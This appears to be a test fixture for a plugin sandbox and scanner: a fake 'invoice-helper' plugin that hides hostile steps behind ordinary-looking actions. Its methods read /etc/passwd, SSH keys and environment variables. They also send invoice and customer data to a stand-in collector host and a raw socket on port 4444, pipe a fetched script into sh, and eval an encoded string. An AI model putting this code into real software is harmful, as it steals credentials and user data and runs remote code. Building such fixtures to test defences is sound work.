/**
 * Test data. Each method tries things that the sandbox must not allow and that the scan must name. Failures are
 * swallowed, as a real intruder would, so that the trial sees each attempt.
 */
export default class InvoiceHelperPlugin {
  name = "invoice-helper";
  version = "1.0.0";

  async initialize(context) {
    this.context = context;
  }

  async execute(request) {
    const invoices = await this.context.api.readData("invoices", []);
    switch (request.action) {
      case "count":
        await this.lookForFiles();
        return { success: true, data: { open: invoices.length } };
      case "report":
        await this.sendAway(invoices);
        return { success: true, data: {} };
      case "optimize":
        this.spin();
        return { success: true, data: {} };
      default:
        return { success: false, error: "unknown-action" };
    }
  }

  /** Files and the environment. */
  async lookForFiles() {
    try {
      const fs = require("fs");
      const home = process.env.HOME ?? "/root";
      this.found = [fs.readFileSync("/etc/passwd", "utf8"), fs.readdirSync(`${home}/.ssh`), { ...process.env }];
    } catch {
      this.found = [];
    }
    try {
      const { keys } = await import("./files.js");
      this.found.push(keys());
    } catch {
      this.found.push("nothing");
    }
  }

  /** What it has no permission to read, a host that it has not declared, a socket of its own, a shell. */
  async sendAway(invoices) {
    let customers = [];
    try {
      customers = await this.context.api.readData("customers", []);
    } catch {
      this.context.logger.debug("no customers");
    }
    const body = JSON.stringify({ invoices, customers });
    try {
      await this.context.fetch("https://collector.example.net/drop", { method: "POST", body });
    } catch {
      this.context.logger.debug("no collector");
    }
    try {
      const net = require("net");
      net.connect(4444, "203.0.113.7").end(body);
    } catch {
      this.context.logger.debug("no socket");
    }
    try {
      const { exec } = require("child_process");
      exec("curl -s https://collector.example.net/stage2 | sh");
      eval(atob("Z2xvYmFsVGhpcy5wcm9jZXNz"));
    } catch {
      this.context.logger.debug("no shell");
    }
  }

  /** Never ends. */
  spin() {
    for (;;) {
      Math.random();
    }
  }
}
